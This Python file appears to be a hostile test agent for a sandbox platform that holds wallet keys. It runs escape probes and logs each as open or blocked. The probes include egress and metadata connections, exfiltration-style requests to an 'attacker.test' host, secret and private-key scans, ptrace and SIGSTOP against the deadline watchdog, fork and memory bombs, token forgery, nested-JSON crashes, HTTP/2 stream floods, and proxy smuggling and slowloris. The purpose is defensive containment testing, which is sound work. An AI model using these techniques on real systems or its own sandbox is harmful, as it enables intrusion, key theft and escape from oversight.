"""Hostile agent: tries the escape named by the `probe` setting. See DESCRIPTION.md."""

import ctypes
import ctypes.util
import errno
import hashlib
import json
import os
import re
import signal
import socket
import time

import grpc

from corral.v1 import runtime_pb2, runtime_pb2_grpc

libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)


class Open(Exception):
    """Raised by a probe when its way out worked."""


def report(agent, name, fn, targets):
    try:
        detail = fn(agent, targets)
    except Open as opened:
        agent.log(f"probe {name}: OPEN ({opened})"[:240])
    except Exception as exc:
        agent.log(f"probe {name}: blocked ({type(exc).__name__}: {exc})"[:240])
    else:
        agent.log(f"probe {name}: blocked ({detail})"[:240])


def must_fail(action, what):
    """Runs `action`; if it succeeds the probe is OPEN. Returns the failure's description."""
    try:
        action()
    except OSError as exc:
        return f"{type(exc).__name__}: {exc}"
    except grpc.RpcError as exc:
        return f"{exc.code().name}: {exc.details()}"
    raise Open(what)


def connect(family, address, timeout=3):
    def go():
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(timeout)
            s.connect(address)
    return go


def syscall_fails(result, what):
    if result == 0:
        raise Open(what)
    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))


# -- network ------------------------------------------------------------------------

def tcp_egress(agent, t):
    return "; ".join(must_fail(connect(socket.AF_INET, addr), f"TCP to {addr}") for addr in [("1.1.1.1", 443), ("8.8.8.8", 53)])


def udp_egress(agent, t):
    def go():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(2)
            s.sendto(b"\x00" * 12, ("8.8.8.8", 53))
            s.recvfrom(512)
    return must_fail(go, "UDP to 8.8.8.8:53")


def icmp(agent, t):
    def raw():
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", ("1.1.1.1", 0))

    def ping():
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b"\x08\x00\x00\x00\x00\x00\x00\x00", ("1.1.1.1", 0))
    return must_fail(raw, "raw ICMP socket") + "; " + must_fail(ping, "ICMP ping socket")


def dns(agent, t):
    def go():
        socket.getaddrinfo("example.com", 443)
    return must_fail(go, "DNS resolved example.com")


def ipv6(agent, t):
    return must_fail(connect(socket.AF_INET6, ("2606:4700:4700::1111", 443)), "TCP over IPv6")


def metadata(agent, t):
    return must_fail(connect(socket.AF_INET, ("169.254.169.254", 80)), "cloud metadata address")


def host_loopback(agent, t):
    results = []
    for name in ("orchestrator_port", "anvil_port"):
        port = int(t[name])
        results.append(must_fail(connect(socket.AF_INET, ("127.0.0.1", port)), f"host {name} {port}"))
        results.append(must_fail(connect(socket.AF_INET6, ("::1", port)), f"host {name} {port} over ::1"))
    interfaces = sorted(line.split(":")[0].strip() for line in open("/proc/net/dev").readlines()[2:])
    if interfaces != ["lo"]:
        raise Open(f"network interfaces {interfaces}")
    return "; ".join(results[:2]) + f"; interfaces {interfaces}"


# -- sockets and files of the host --------------------------------------------------

def unix_connect(path):
    def go():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.connect(path)
    return go


def signer_socket(agent, t):
    return must_fail(unix_connect(t["signer_socket"]), "signer socket")


def docker_socket(agent, t):
    return "; ".join(must_fail(unix_connect(p), p) for p in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"))


def other_socket(agent, t):
    seen = sorted(os.listdir("/run/corral"))
    if seen != ["runtime.sock"]:
        raise Open(f"/run/corral holds {seen}")
    return must_fail(unix_connect(t["other_socket"]), "another execution's socket") + f"; /run/corral holds {seen}"


def write_outside_tmp(agent, t):
    results = []
    for path in ("/agent/x", "/etc/x", "/x", "/run/corral/x", "/opt/corral/lib/x", "/var/tmp/x"):
        def go(path=path):
            with open(path, "w") as f:
                f.write("x")
        results.append(must_fail(go, f"wrote {path}"))
    return "; ".join(sorted(set(results)))


def fill_tmp(agent, t):
    chunk = b"\0" * 2**20
    written = 0
    try:
        with open("/tmp/fill", "wb") as f:
            for _ in range(1024):  # 1 GiB, far past any limit
                f.write(chunk)
                written += 1
    except OSError as exc:
        os.unlink("/tmp/fill")
        return f"{type(exc).__name__} after {written} MiB"
    raise Open(f"wrote {written} MiB to /tmp")


def exec_tmp(agent, t):
    with open("/tmp/run.sh", "w") as f:
        f.write("#!/bin/sh\necho escaped\n")
    os.chmod("/tmp/run.sh", 0o755)
    return must_fail(lambda: os.execv("/tmp/run.sh", ["/tmp/run.sh"]), "executed a file from /tmp")


def secrets(agent, t):
    env_names = sorted(os.environ)
    allowed = {"CORRAL_SOCKET", "CORRAL_TOKEN", "CORRAL_WAIT_FOR_SOCKET_SECONDS", "PATH", "HOME", "HOSTNAME", "PYTHONPATH", "PYTHONDONTWRITEBYTECODE", "PYTHONUNBUFFERED", "container",
               "LC_CTYPE", "PWD",  # set by Python itself (PEP 538) and by bwrap --chdir
               # the egress path's proxy and CA-bundle variables (sandbox_runner/inside/egress.py): no secret in them
               "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY", "http_proxy", "https_proxy", "all_proxy", "no_proxy",
               "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE"}
    extra = [n for n in env_names if n not in allowed]
    if extra:
        raise Open(f"environment carries {extra}")
    for host_path in (t["signer_home"], t["database"]):
        if os.path.exists(host_path):
            raise Open(f"{host_path} exists in the sandbox")
    # Keystore files and PEM keys by their markers; the platform's actual secrets (wallet
    # keys, the keystore passphrase) by the SHA-256 of every long hex string found.
    markers = (b'"ciphertext"', b"PRIVATE KEY", b"kdfparams")
    secret_hashes = set(t.get("secret_sha256", []))
    hex_strings = re.compile(rb"[0-9a-fA-F]{40,128}")

    def holds_secret(data: bytes) -> bool:
        return any(hashlib.sha256(m.lower()).hexdigest() in secret_hashes for m in hex_strings.findall(data))

    if holds_secret("\n".join(os.environ.values()).encode()):
        raise Open("a platform secret is in the environment")
    scanned = 0
    for top in ("/etc", "/agent", "/opt/corral", "/run", "/tmp", "/root", "/home", "/var", "/proc/1/environ"):
        for root, _dirs, files in os.walk(top) if os.path.isdir(top) else [(os.path.dirname(top), [], [os.path.basename(top)])]:
            for name in files:
                path = os.path.join(root, name)
                try:
                    with open(path, "rb") as f:
                        data = f.read(1 << 20)
                except OSError:
                    continue
                scanned += 1
                for marker in markers:
                    if marker in data and not path.startswith("/agent/"):
                        raise Open(f"{marker!r} in {path}")
                if holds_secret(data):
                    raise Open(f"a platform secret is in {path}")
    return f"environment {env_names}; {scanned} readable files hold no key material"


# -- privileges and kernel surface --------------------------------------------------

def _watchdog():
    """The agent's parent: the watchdog that enforces the deadline (checked by its command line)."""
    pid = os.getppid()
    with open(f"/proc/{pid}/cmdline", "rb") as f:
        command = f.read()
    if b"watchdog.py" not in command:
        raise RuntimeError(f"the parent (pid {pid}) is not the watchdog: {command[:120]!r}")
    return pid


def ptrace(agent, t):
    """The watchdog that enforces the deadline: the agent must not stop or read it."""
    pid = _watchdog()
    attach = syscall_fails(libc.ptrace(16, pid, None, None), f"PTRACE_ATTACH to pid {pid} (the watchdog)")

    def read_memory():
        with open(f"/proc/{pid}/mem", "rb") as f:
            f.read(1)
    return f"PTRACE_ATTACH: {attach}; " + must_fail(read_memory, f"opened /proc/{pid}/mem")


def stop_watchdog(agent, t):
    """The watchdog is PID 1 of the sandbox's namespace, so a signal from inside that it has no
    handler for (SIGSTOP, SIGKILL) is dropped: the agent cannot freeze its deadline."""
    pid = _watchdog()
    os.kill(pid, signal.SIGSTOP)  # delivered or silently dropped: kill() itself succeeds either way
    time.sleep(0.2)
    with open(f"/proc/{pid}/stat") as f:
        state = f.read().rsplit(")", 1)[1].split()[0]
    if state in ("T", "t"):
        os.kill(pid, signal.SIGCONT)
        raise Open(f"SIGSTOP stopped the watchdog (pid {pid}, state {state})")
    return f"SIGSTOP to the watchdog (pid {pid}) dropped; its state is {state}"


def mount(agent, t):
    os.makedirs("/tmp/m", exist_ok=True)
    return syscall_fails(libc.mount(b"none", b"/tmp/m", b"tmpfs", 0, None), "mounted a tmpfs")


def unshare(agent, t):
    CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET = 0x10000000, 0x00020000, 0x40000000
    results = [syscall_fails(libc.unshare(flag), f"unshare({hex(flag)})") for flag in (CLONE_NEWUSER, CLONE_NEWNET)]
    if libc.unshare(CLONE_NEWNS) == 0:
        # gVisor's own kernel grants a private mount namespace; it is worth nothing if
        # mounting is still refused inside it.
        os.makedirs("/tmp/m", exist_ok=True)
        results.append("NEWNS granted but " + syscall_fails(libc.mount(b"none", b"/tmp/m", b"tmpfs", 0, None), "mounted after unshare"))
    else:
        results.append(errno.errorcode.get(ctypes.get_errno(), "?"))
    return "unshare NEWUSER, NEWNET, NEWNS: " + ", ".join(results)


def setuid(agent, t):
    status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines() if ":" in line)
    if status["NoNewPrivs"].strip() != "1":
        raise Open("no_new_privs is off")
    if int(status["CapEff"].strip(), 16) != 0 or int(status["CapBnd"].strip(), 16) != 0:
        raise Open(f"capabilities eff={status['CapEff'].strip()} bnd={status['CapBnd'].strip()}")
    privileged = []
    for top in ("/usr", "/bin", "/sbin", "/opt"):
        for root, _dirs, files in os.walk(top):
            for name in files:
                path = os.path.join(root, name)
                try:
                    if os.lstat(path).st_mode & 0o6000:
                        privileged.append(path)
                except OSError:
                    pass
    if privileged:
        raise Open(f"setuid/setgid binaries {privileged[:5]}")
    if os.getuid() == 0 or os.geteuid() == 0:
        raise Open("running as root")
    return f"uid {os.getuid()}, no capabilities, NoNewPrivs 1, no setuid binaries"


# -- resources ----------------------------------------------------------------------

def fork_bomb(agent, t):
    # posix_spawn rather than fork(): forking a process that runs gRPC threads can hang
    # in the child, and the point here is the process limit, not gRPC's fork handling.
    children = []
    try:
        for _ in range(2000):
            children.append(os.posix_spawn("/bin/sleep", ["sleep", "30"], {}))
    except OSError as exc:
        return f"process creation failed after {len(children)} children: {exc}"
    finally:
        for pid in children:
            os.kill(pid, 9)
            os.waitpid(pid, 0)
    raise Open(f"started {len(children)} processes")


def memory_bomb(agent, t):
    hoard = []
    while True:
        hoard.append(bytearray(32 * 2**20))


def cpu_spin(agent, t):
    agent.log("spinning")
    while True:
        pass


def stdout_flood(agent, t):
    line = "x" * 1023 + "\n"
    for _ in range(20 * 1024):  # 20 MiB
        os.write(1, line.encode())
    return "wrote 20 MiB to stdout"


def sdk_flood(agent, t):
    for i in range(300):
        agent.log(f"flood {i}")
    served = 0
    while served < 100_000:
        result = agent.memory.get("anything")
        if not result.success:
            # The budget is spent: no SDK call can report any more, so the outcome does.
            raise RuntimeError(f"probe sdk-flood: blocked after {served} more calls ({result.error})")
        served += 1
    raise RuntimeError(f"probe sdk-flood: OPEN ({served} calls served)")


def oversized_message(agent, t):
    result = agent.memory.set("big", "x" * (4 * 2**20))
    if result.success:
        raise Open("a 4 MiB message was accepted")
    return result.error


def _varint(n):
    out = b""
    while True:
        low, n = n & 0x7F, n >> 7
        if not n:
            return out + bytes([low])
        out += bytes([low | 0x80])


def _nested_struct(depth):
    """The bytes of a SwapQuoteRequest whose Struct nests `depth` Structs (built as bytes: a
    Python message that deep could not even be built)."""
    inner = b""
    for _ in range(depth):
        value = b"\x2a" + _varint(len(inner)) + inner  # Value.struct_value
        entry = b"\x0a\x01a\x12" + _varint(len(value)) + value  # fields map entry {"a": value}
        inner = b"\x0a" + _varint(len(entry)) + entry
    return b"\x0a" + _varint(len(inner)) + inner


def _refused_as_invalid(call, what):
    refusal = must_fail(call, what)
    if not refusal.startswith("INVALID_ARGUMENT"):
        raise Open(f"{what} was refused as {refusal[:120]} (the platform must answer INVALID_ARGUMENT and keep serving)")
    return refusal


def _runtime():
    channel = grpc.insecure_channel(f"unix:{os.environ['CORRAL_SOCKET']}", options=[("grpc.max_send_message_length", 2**21)])
    return channel, (("authorization", f"Bearer {os.environ['CORRAL_TOKEN']}"),)


def deep_json(agent, t):
    """Nesting that overflowed the C JSON parser and killed the orchestrator, and a Struct past
    protobuf's depth limit: both malformed input, answered INVALID_ARGUMENT."""
    channel, auth = _runtime()
    stub = runtime_pb2_grpc.AgentRuntimeStub(channel)
    deep = "[" * 200_000 + "]" * 200_000
    sign = runtime_pb2.SignMessageRequest(request_id="deep-json", chain_id=31337, eip712_json=deep)
    raw_quote = channel.unary_unary("/corral.v1.AgentRuntime/SwapQuote", request_serializer=lambda b: b, response_deserializer=lambda b: b)
    return "; ".join([
        _refused_as_invalid(lambda: stub.SignMessage(sign, metadata=auth, timeout=60), "deep typed data"),
        _refused_as_invalid(lambda: raw_quote(_nested_struct(300), metadata=auth, timeout=60), "a Struct 300 deep"),
    ])


def wide_json(agent, t):
    """The same, wide instead of deep: 800 KB of typed data, a Struct with 40,000 keys."""
    channel, auth = _runtime()
    stub = runtime_pb2_grpc.AgentRuntimeStub(channel)
    wide = "[" + "1," * 400_000 + "1]"
    sign = runtime_pb2.SignMessageRequest(request_id="wide-json", chain_id=31337, eip712_json=wide)
    quote = runtime_pb2.SwapQuoteRequest()
    for n in range(40_000):
        quote.request.fields[f"k{n}"].number_value = n
    return "; ".join([
        _refused_as_invalid(lambda: stub.SignMessage(sign, metadata=auth, timeout=60), "wide typed data"),
        _refused_as_invalid(lambda: stub.SwapQuote(quote, metadata=auth, timeout=60), "a Struct with 40,000 keys"),
    ])


def forged_token(agent, t):
    channel = grpc.insecure_channel(f"unix:{os.environ['CORRAL_SOCKET']}")
    stub = runtime_pb2_grpc.AgentRuntimeStub(channel)
    request = runtime_pb2.SetMemoryRequest(key="forged", value="x")
    results = [
        must_fail(lambda: stub.SetMemory(request, metadata=(("authorization", "Bearer " + "A" * 43),), timeout=5), "forged token"),
        must_fail(lambda: stub.SetMemory(request, timeout=5), "no token"),
    ]
    return "; ".join(results)


def replayed_token(agent, t):
    old = agent.memory.get("old_token").data.value
    if old is None:
        agent.memory.set("old_token", os.environ["CORRAL_TOKEN"])
        return "armed: stored this execution's token for the next one"
    channel = grpc.insecure_channel(f"unix:{os.environ['CORRAL_SOCKET']}")
    stub = runtime_pb2_grpc.AgentRuntimeStub(channel)
    request = runtime_pb2.SetMemoryRequest(key="replayed", value="x")
    return must_fail(lambda: stub.SetMemory(request, metadata=(("authorization", f"Bearer {old}"),), timeout=5), "replayed token")


def _hpack_literal(name, value):
    """One header as an HPACK literal without indexing, new name, no Huffman coding."""
    def string(data):
        data = data.encode()
        if len(data) < 127:
            return bytes([len(data)]) + data
        rest, out = len(data) - 127, b""
        while rest >= 128:
            out, rest = out + bytes([rest & 0x7F | 0x80]), rest >> 7
        return b"\x7f" + out + bytes([rest]) + data
    return b"\x00" + string(name) + string(value)


def _frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def stream_flood(agent, t):
    """Raw HTTP/2 on the runtime socket: 4 connections x 40 streams, each announcing a
    1 MB SetMemory and sending 1 KB of it, then holding the stream open. At most 16 may be
    held by the platform at once (each one's bytes bounded by the 1 MiB message limit); the
    rest must be refused at once."""
    import select
    import time

    headers = b"".join(_hpack_literal(n, v) for n, v in [
        (":method", "POST"), (":scheme", "http"), (":path", "/corral.v1.AgentRuntime/SetMemory"), (":authority", "localhost"),
        ("content-type", "application/grpc"), ("te", "trailers"), ("authorization", f"Bearer {os.environ['CORRAL_TOKEN']}"),
    ])
    # 40 streams x 1 KB stays inside HTTP/2's initial 64 KiB connection window: a client
    # that keeps the protocol's rules, so only the platform's own bounds can stop it.
    body = b"\x00" + (1_000_000).to_bytes(4, "big") + b"\x0a" * 1000
    connections = []
    for _ in range(4):
        conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        conn.connect(os.environ["CORRAL_SOCKET"])
        conn.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
        frames = b""
        for stream in range(1, 80, 2):
            frames += _frame(1, 0x4, stream, headers) + _frame(0, 0, stream, body)
        conn.setblocking(False)
        connections.append((conn, frames))
    ended, closed, sent = set(), set(), [0] * len(connections)
    buffers = [b""] * len(connections)
    deadline = time.monotonic() + 8
    while time.monotonic() < deadline:
        for i, (conn, frames) in enumerate(connections):
            if i not in closed and sent[i] < len(frames):
                try:
                    sent[i] += conn.send(frames[sent[i]:sent[i] + 65536])
                except BlockingIOError:
                    pass
                except OSError:  # the server dropped the connection: its streams are over
                    closed.add(i)
                    ended.update((i, s) for s in range(1, 80, 2))
        readable, _, _ = select.select([c for n, (c, _) in enumerate(connections) if n not in closed], [], [], 0.2)
        for conn in readable:
            i = next(n for n, (c, _) in enumerate(connections) if c is conn)
            try:
                chunk = conn.recv(1 << 20)
            except BlockingIOError:
                continue
            except OSError:
                chunk = b""
            if not chunk:  # closed by the server
                ended.update((i, s) for s in range(1, 80, 2))
                closed.add(i)
                continue
            buffers[i] += chunk
            while len(buffers[i]) >= 9:
                length = int.from_bytes(buffers[i][:3], "big")
                if len(buffers[i]) < 9 + length:
                    break
                kind, flags, stream = buffers[i][3], buffers[i][4], int.from_bytes(buffers[i][5:9], "big") & 0x7FFFFFFF
                if kind == 4 and not flags & 1:
                    conn.sendall(_frame(4, 1, 0, b""))  # acknowledge the server's settings
                if stream and (kind == 3 or (kind == 1 and flags & 1)):  # RST_STREAM, or trailers ending it
                    ended.add((i, stream))
                if kind == 7:  # GOAWAY: streams after its last stream id are over
                    last = int.from_bytes(buffers[i][9:13], "big") & 0x7FFFFFFF
                    ended.update((i, s) for s in range(1, 80, 2) if s > last)
                buffers[i] = buffers[i][9 + length:]
    opened = 4 * 40
    held = opened - len(ended)
    for conn, _ in connections:
        conn.close()
    # The held streams end with their connections: the platform serves this execution
    # again (and the verdict can be logged) once it has noticed.
    closed_at = time.monotonic()
    while not agent.memory.get("stream-flood").success:
        if time.monotonic() - closed_at > 15:
            raise Open("the runtime kept refusing calls 15 s after the flooding connections closed")
        time.sleep(0.1)
    freed = time.monotonic() - closed_at
    if held > 16:
        raise Open(f"{held} of {opened} streams held open at once (sent {sum(sent)} bytes)")
    return f"{held} of {opened} streams held, {len(ended)} refused, {sum(sent)} bytes sent; served again {freed:.1f} s after closing"



# -- egress (the proxy of orchestrator/egress: a loopback forwarder is this sandbox's only way) --


def _proxy():
    url = os.environ.get("HTTPS_PROXY", "")
    if not url:
        raise Open("no egress proxy configured: the probe cannot aim at it")
    host, port = url.removeprefix("http://").rsplit(":", 1)
    return host, int(port)


def _exchange(data, timeout=20, expect_close=True):
    with socket.create_connection(_proxy(), timeout=timeout) as s:
        s.sendall(data)
        reply = b""
        while chunk := s.recv(4096):
            reply += chunk
            if not expect_close and b"\r\n\r\n" in reply:
                break
        return reply


def _refused(reply, what, codes=(b"403",)):
    status = reply.split(b"\r\n", 1)[0]
    if not any(status.startswith(b"HTTP/1.1 " + code) for code in codes):
        raise Open(f"{what}: {status[:120]!r}")
    return status.decode("ascii", "replace")[:160]


def egress_undeclared(agent, t):
    """A host the agent did not declare: refused before the proxy looks the name up (no DNS leak)."""
    return _refused(_exchange(b"CONNECT exfil-4f2a.attacker.test:443 HTTP/1.1\r\n\r\n"), "undeclared host")


def egress_ip_direct(agent, t):
    """A declared host's address, or any address, instead of its name."""
    out = [_refused(_exchange(f"CONNECT {ip}:443 HTTP/1.1\r\n\r\n".encode()), f"CONNECT {ip}")
           for ip in ("127.0.0.2", "1.1.1.1", "[::1]", "169.254.169.254")]
    return "; ".join(out)


def egress_private_names(agent, t):
    """Declared names that resolve to loopback, private and metadata addresses (DNS rebinding)."""
    return "; ".join(_refused(_exchange(f"CONNECT {name}:443 HTTP/1.1\r\n\r\n".encode()), name)
                     for name in ("loopback.test", "private.test", "metadata.test"))


def egress_dns(agent, t):
    """No resolver in the sandbox: a lookup (the usual DNS exfiltration channel) fails."""
    def lookup():
        socket.getaddrinfo("exfil-4f2a.attacker.test", 443)
    return must_fail(lookup, "a DNS lookup from inside the sandbox")


def egress_smuggling(agent, t):
    """Request smuggling: both Content-Length and chunked, bare LF heads, and absolute https."""
    out = [_refused(_exchange(b"POST http://prices.test/a HTTP/1.1\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
                               b"0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n"), "CL+TE", (b"400", b"403", b"411")),
           _refused(_exchange(b"GET http://prices.test/ HTTP/1.1\nHost: prices.test\n\n"), "bare LF", (b"400", b"408")),
           _refused(_exchange(b"GET https://prices.test/ HTTP/1.1\r\n\r\n"), "absolute https", (b"400", b"403"))]
    return "; ".join(out)


def egress_oversized(agent, t):
    """A request head larger than the proxy reads."""
    return _refused(_exchange(b"CONNECT prices.test:443 HTTP/1.1\r\nX: " + b"a" * 70000 + b"\r\n\r\n"), "oversized head",
                    (b"431",))


def egress_slowloris(agent, t):
    """A head that never ends: the proxy answers 408 at its deadline instead of waiting forever."""
    return _refused(_exchange(b"CONNECT prices.test:443 HTTP/1.1\r\n", timeout=60), "slowloris", (b"408",))


def egress_flood(agent, t):
    """More connections than an execution may open: refused with 429 once the budget is spent."""
    statuses = [_exchange(b"CONNECT undeclared.test:443 HTTP/1.1\r\n\r\n").split(b" ", 2)[1] for _ in range(60)]
    if b"429" not in statuses:
        raise Open(f"60 connections, none refused for the execution's limits: {sorted(set(statuses))}")
    return f"{statuses.count(b'429')} of 60 refused with 429"

PROBES = {
    "tcp-egress": tcp_egress, "udp-egress": udp_egress, "icmp": icmp, "dns": dns, "ipv6": ipv6, "metadata": metadata,
    "host-loopback": host_loopback, "signer-socket": signer_socket, "docker-socket": docker_socket, "other-socket": other_socket,
    "write-outside-tmp": write_outside_tmp, "fill-tmp": fill_tmp, "exec-tmp": exec_tmp, "secrets": secrets,
    "ptrace": ptrace, "stop-watchdog": stop_watchdog, "mount": mount, "unshare": unshare, "setuid": setuid,
    "fork-bomb": fork_bomb, "memory-bomb": memory_bomb, "cpu-spin": cpu_spin, "stdout-flood": stdout_flood,
    "sdk-flood": sdk_flood, "oversized-message": oversized_message, "forged-token": forged_token, "replayed-token": replayed_token,
    "deep-json": deep_json, "wide-json": wide_json, "stream-flood": stream_flood,
    "egress-undeclared": egress_undeclared, "egress-ip-direct": egress_ip_direct, "egress-private-names": egress_private_names,
    "egress-dns": egress_dns, "egress-smuggling": egress_smuggling, "egress-oversized": egress_oversized,
    "egress-slowloris": egress_slowloris, "egress-flood": egress_flood,
}


def run(agent):
    name = agent.settings["probe"]
    targets = json.loads(agent.settings.get("targets") or "{}")
    if name == "sdk-flood":
        sdk_flood(agent, targets)  # reports through the execution's outcome: logging is cut off too
    else:
        report(agent, name, PROBES[name], targets)
